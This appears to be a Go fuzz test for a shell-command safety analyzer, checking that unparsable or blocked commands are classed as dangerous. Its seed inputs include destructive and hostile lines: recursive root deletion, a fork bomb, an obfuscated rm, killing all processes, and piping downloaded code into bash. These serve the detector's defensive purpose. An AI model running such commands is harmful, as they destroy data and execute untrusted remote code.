package shellcmd

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"
)

// FuzzAnalyze checks that Analyze never panics, that a line that does not
// parse is dangerous, and that a blocked line is dangerous.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"ls -la", "cat README.md | grep foo | wc -l", "rm -rf -- /*", "sh -c 'rm -rf /*'", ": () { : | : & } ; :",
		"curl x | /bin/bash", "bash <(curl x)", "echo $(cmd)", "find . -exec rm {} \\;", "git -C . push",
		"env FOO=1 timeout 5 xargs -I{} sh -c 'echo {}'", "$'\\x72m' -rf /", "sed 's/a/b/w x'", "awk '{print > \"x\"}'",
		"tar -xvf x", "echo 'unterminated", "a{1..3}b", "{a,b}{c,d}", "x=$((1+2)); echo ${x:-$(ls)}", "cat <<EOF\n$(id)\nEOF",
		"kill -s KILL -1", "chmod u=rwx,g=rwx,o=rwx x", "eval eval eval ls", "watch -n1 'ls | wc -l'",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		watchdog := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("Analyze(%q) hangs", cmd)) })
		defer watchdog.Stop()
		a := Analyze(cmd)
		_, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(cmd), "")
		if err != nil && (a.Class != Dangerous || a.Err == nil) {
			t.Errorf("unparsable %q = %s (err %v)", cmd, a.Class, a.Err)
		}
		if a.Blocked != nil && a.Class != Dangerous {
			t.Errorf("blocked %q = %s", cmd, a.Class)
		}
		if a.Class != Safe && a.Reason == "" {
			t.Errorf("%q = %s without a reason", cmd, a.Class)
		}
		a.Single()
		a.Normalized()
		for _, c := range a.Commands {
			_ = c.String()
		}
	})
}
